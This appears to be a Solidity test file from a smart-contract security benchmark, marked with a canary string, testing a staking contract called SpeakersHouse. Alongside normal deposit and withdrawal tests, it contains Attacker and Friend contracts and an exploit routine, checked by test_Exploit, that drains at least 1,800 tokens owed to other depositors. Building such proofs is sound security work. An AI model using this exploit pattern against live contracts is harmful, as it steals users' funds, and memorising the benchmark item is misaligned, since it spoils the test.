// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-040d9ab1-483f-4195-adb8-4d360a41d46d

import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import {EIP712} from "@openzeppelin/contracts@5.4.0/utils/cryptography/EIP712.sol";
import {ERC20Votes} from "@openzeppelin/contracts@5.4.0/token/ERC20/extensions/ERC20Votes.sol";
import "./SpeakersHouse.sol";

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract Coin is ERC20Votes {
    constructor() ERC20("Village Coin", "VIL") EIP712("Village Coin", "1") {
        _mint(msg.sender, 1_000_000e18);
    }
}

// the second account
contract Friend {
    function keep(SpeakersHouse house) external {
        uint256 amount = house.coin().balanceOf(address(this));
        house.coin().approve(address(house), amount);
        house.keep(amount);
        house.giveNotice();
    }

    function leave(SpeakersHouse house) external {
        house.leave();
        house.fetch();
        house.coin().transfer(msg.sender, house.coin().balanceOf(address(this)));
    }
}

// most of the coins for the second account, which gets back what the first gives up
contract Attacker {
    Friend public friend = new Friend();

    function enter(SpeakersHouse house, address speaker, uint256 amount) external {
        IERC20 coin = house.coin();
        coin.transfer(address(friend), coin.balanceOf(address(this)) - amount);
        friend.keep(house);
        coin.approve(address(house), amount);
        house.follow(speaker);
        house.keep(amount);
    }

    function leaveNow(SpeakersHouse house) external {
        house.leaveNow();
    }

    function end(SpeakersHouse house) external {
        friend.leave(house);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANNA = address(0xA22A);
    address private constant BELA = address(0xBE1A);
    address private constant SPEAKER = address(0x59EA);
    uint256 private constant START = 1_760_900_000;

    Coin public coin;
    SpeakersHouse public house;
    Attacker public guest;

    function setUp() public {
        vm.warp(START);
        coin = new Coin();
        house = new SpeakersHouse(coin);
        _keep(ANNA, 3_000e18);
        _keep(BELA, 2_000e18);
        vm.prank(BELA);
        house.follow(SPEAKER);
        guest = new Attacker();
        coin.transfer(address(guest), 100_000e18);
    }

    function _keep(address who, uint256 amount) private {
        coin.transfer(who, 10_000e18);
        vm.startPrank(who);
        coin.approve(address(house), type(uint256).max);
        house.keep(amount);
        vm.stopPrank();
    }

    function test_Regular() public {
        Bench bench = house.benchOf(SPEAKER);
        require(coin.getVotes(SPEAKER) == 2_000e18 && coin.balanceOf(address(bench)) == 2_000e18, "votes");
        vm.startPrank(BELA);
        house.keep(500e18);
        require(coin.getVotes(SPEAKER) == 2_500e18, "more votes");
        house.follow(address(0));
        require(coin.balanceOf(address(house)) == 5_500e18 && coin.getVotes(SPEAKER) == 0, "home");
        house.follow(SPEAKER);
        vm.stopPrank();
        vm.prank(ANNA);
        house.leaveNow();
        require(coin.balanceOf(ANNA) == 9_700e18 && house.all() == 2_500e18, "nine tenths");
        vm.startPrank(BELA);
        require(house.fetch() == 300e18 && house.fetch() == 0, "the tenth");
        house.giveNotice();
        vm.warp(START + 21 days);
        house.leave();
        vm.stopPrank();
        require(coin.balanceOf(BELA) == 10_300e18 && house.all() == 0, "all");
        require(coin.balanceOf(address(house)) == 0 && coin.balanceOf(address(bench)) == 0, "nothing here");
    }

    function test_RefusesToLeave() public {
        vm.startPrank(ANNA);
        vm.expectRevert(abi.encodeWithSignature("Error(string)", "nothing?"));
        house.keep(0);
        vm.expectRevert(abi.encodeWithSelector(SpeakersHouse.NoNotice.selector));
        house.leave();
        house.giveNotice();
        vm.warp(START + 21 days - 1);
        vm.expectRevert(abi.encodeWithSelector(SpeakersHouse.TooEarly.selector, START + 21 days));
        house.leave();
        vm.warp(START + 21 days);
        house.keep(1);
        vm.expectRevert(abi.encodeWithSelector(SpeakersHouse.NoNotice.selector));
        house.leave();
        vm.stopPrank();
    }

    // what Anna and Bela have left there, and still get back
    function back() external view returns (uint256) {
        (uint256 anna,,,,) = house.members(ANNA);
        (uint256 bela,,,,) = house.members(BELA);
        return _least(anna, coin.balanceOf(address(house)))
            + _least(bela, coin.balanceOf(address(house.benchOf(SPEAKER))));
    }

    function _least(uint256 a, uint256 b) private pure returns (uint256) {
        return a < b ? a : b;
    }

    function exploit() public {
        guest.enter(house, SPEAKER, 20_000e18);
        guest.leaveNow(house);
        vm.warp(block.timestamp + 21 days);
        guest.end(house);
    }

    function test_Exploit() public {
        uint256 before = this.back();
        exploit();
        require(this.back() + 1_800e18 <= before, "no loss");
    }

    function target() public view returns (address) {
        return address(house);
    }

    function attacker() public view returns (address) {
        return address(guest);
    }
}
